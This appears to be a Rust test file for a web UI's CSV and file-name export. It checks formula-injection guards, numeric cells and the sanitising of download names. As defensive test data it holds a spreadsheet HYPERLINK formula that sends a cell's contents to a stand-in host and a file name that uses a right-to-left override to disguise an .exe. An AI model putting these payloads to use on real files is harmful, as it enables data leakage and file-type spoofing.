//! What the page writes to files: CSV cells a spreadsheet would run as formulas are
//! guarded, numbers are left alone, and download names stay short and readable.

use cluster_eval_ui::csv_export::{quote, results_csv};
use cluster_eval_ui::file_names::{safe_file_name, MAX_STEM_CHARS};
use cluster_eval_ui::{example, i18n::Lang};

#[test]
fn formula_text_in_a_project_name_is_neutralised_in_every_row() {
    let doc = example::document(Lang::En);
    let results = cluster_eval_engine::compute(&doc);
    let name = "=HYPERLINK(\"http://example.com/?\"&A1,\"click\")";
    for lang in Lang::ALL {
        let csv = results_csv(lang, &results, name, &doc.targets, "USD");
        for line in csv.lines().skip(1) {
            assert!(
                line.starts_with("\"'=HYPERLINK("),
                "{lang:?}: a row starts unguarded: {line}"
            );
        }
    }
}

#[test]
fn every_formula_start_is_guarded_and_other_text_is_not() {
    for start in ["=", "+", "-", "@", "\t", "\r"] {
        let cell = quote(&format!("{start}1+2"));
        assert!(cell.starts_with("\"'"), "{start:?} not guarded: {cell}");
    }
    assert_eq!(quote("Masaya"), "\"Masaya\"");
    assert_eq!(quote("say \"hi\""), "\"say \"\"hi\"\"\"");
}

#[test]
fn negative_numbers_stay_numbers() {
    let doc = example::document(Lang::Es);
    let results = cluster_eval_engine::compute(&doc);
    let csv = results_csv(Lang::Es, &results, "Masaya", &doc.targets, "USD");
    // Some indicator of the example is negative; its value is written as a number.
    let negative = results
        .indicators
        .iter()
        .find(|i| i.value.is_some_and(|v| v < 0.0))
        .expect("the example has a negative value");
    let row = csv
        .lines()
        .find(|l| l.contains(&format!("\"{}\"", negative.id)))
        .expect("its row");
    assert!(row.contains(";-"), "{row}");
    assert!(!row.contains("'-"), "{row}");
}

#[test]
fn download_names_are_capped_and_have_no_direction_marks() {
    let long = "x".repeat(100_000);
    let name = safe_file_name(&long, "json");
    assert_eq!(name.chars().count(), MAX_STEM_CHARS + ".json".len());
    assert_eq!(
        safe_file_name("Proyecto \u{202e}nosj.exe", "json"),
        "Proyecto nosj.exe.json"
    );
    assert_eq!(safe_file_name("Año\u{200b} café", "csv"), "Año café.csv");
    assert_eq!(
        safe_file_name("Masaya: 2003/2006", "json"),
        "Masaya_ 2003_2006.json"
    );
}

#[test]
fn the_csv_words_verdicts_by_kind_and_prints_a_target() {
    let mut doc = example::document(Lang::En);
    doc.targets.insert("short.participation_share".into(), 0.8);
    let results = cluster_eval_engine::compute(&doc);
    let csv = results_csv(Lang::En, &results, "Masaya", &doc.targets, "USD");
    let row = |id: &str| {
        csv.lines()
            .find(|l| l.contains(&format!("\"{id}\"")))
            .unwrap_or_else(|| panic!("no row for {id}"))
            .to_string()
    };
    assert!(row("long.beneficiaries.sales.vs_control").contains("\"Favourable"));
    assert!(row("design.attrition.differential").contains("\"Passed\""));
    assert!(
        row("short.participation_share").contains("(target: 80"),
        "{}",
        row("short.participation_share")
    );
    assert!(row("long.return_per_dollar").contains("\"As entered\""));
    assert!(!csv.contains("\"Met\""), "a verdict is worded \"Met\"");
}
